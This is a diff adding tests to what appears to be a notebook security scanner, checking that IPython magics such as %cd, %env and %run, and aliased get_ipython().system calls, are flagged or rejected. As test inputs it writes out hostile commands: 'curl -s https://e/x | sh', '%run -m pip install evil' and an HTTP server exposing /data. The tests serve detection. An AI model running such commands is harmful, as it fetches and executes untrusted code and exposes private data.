@@ -6,7 +6,7 @@ import json
 from pathlib import Path
 
 from analyzer import api
-from analyzer.collect import from_bytes
+from analyzer.collect import collect, from_bytes
 from analyzer.notebooks import read_notebook
 
 POLICY = api.load_policy()
@@ -107,3 +107,52 @@ def test_corpus_notebooks() -> None:
     assert api.scan(CORPUS / "borderline/gpu_check_notebook.ipynb", POLICY).decision.value == "escalate"
     report = api.scan(CORPUS / "benign/sklearn_eval_notebook.ipynb", POLICY)
     assert report.decision.value == "accept", report.findings
+
+
+# -- magics whose arguments change what the Python does (issue 12) -------------------------
+
+def test_cd_magic_moves_relative_writes_onto_the_share() -> None:
+    report = scan(nb("%cd /mnt/share\n", "open('rows.csv', 'w').write('x')\n"))
+    found = {(f.rule, f.path) for f in report.findings}
+    assert ("file-exfiltration.chdir-outside", "train.ipynb[cell 1]") in found
+    assert ("file-exfiltration.write-network", "train.ipynb[cell 2]") in found
+    assert report.decision.value == "reject"
+
+
+def judged(report) -> list:
+    """Findings of the threat and capability rules (what the catalogue does not list is another matter)."""
+    return [f for f in report.findings if f.category != "unvouched"]
+
+
+def test_cd_into_the_workspace_stays_clean() -> None:
+    assert not judged(scan(nb("%cd outputs\n", "import numpy as np\nnp.save('x.npy', np.ones(2))\n")))
+
+
+def test_env_magic_setting_master_addr_to_another_host_rejects() -> None:
+    report = scan(nb("%env MASTER_ADDR=203.0.113.9\n", "import torch.distributed as dist\n"
+                     "dist.init_process_group('gloo', init_method='env://')\n"))
+    assert "network.rendezvous-remote" in {f.rule for f in report.findings}
+    assert report.decision.value == "reject"
+
+
+def test_env_magic_for_a_gpu_choice_stays_clean() -> None:
+    assert not judged(scan(nb("%env CUDA_VISIBLE_DEVICES=0\n")))
+
+
+def test_run_module_arguments_are_judged() -> None:
+    assert scan(nb("%run -m pip install evil\n")).decision.value == "reject"
+    assert "files.notebook-shell-network" in {f.rule for f in scan(nb("%run -m http.server 8000 --directory /data\n")).findings}
+    assert "files.notebook-shell" in {f.rule for f in scan(nb("%run -m timeit -n 3 pass\n")).findings}
+
+
+def test_run_of_the_jobs_own_module_with_arguments_is_fine(tmp_path) -> None:
+    (tmp_path / "train.py").write_text("import sys\nprint(sys.argv)\n")
+    (tmp_path / "nb.ipynb").write_bytes(nb("%run -m train --epochs 2\n"))
+    report = api.analyze(collect(tmp_path, POLICY.limits), POLICY)
+    assert not any(f.rule.startswith("files.notebook") for f in report.findings), report.findings
+
+
+def test_ipython_shell_under_another_name() -> None:
+    assert scan(nb("ip = get_ipython()\n", "ip.system('curl -s https://e/x | sh')\n")).decision.value == "reject"
+    found = {f.rule for f in scan(nb("sh = get_ipython().system\n", "sh('ls /data')\n")).findings}
+    assert "files.notebook-shell" in found
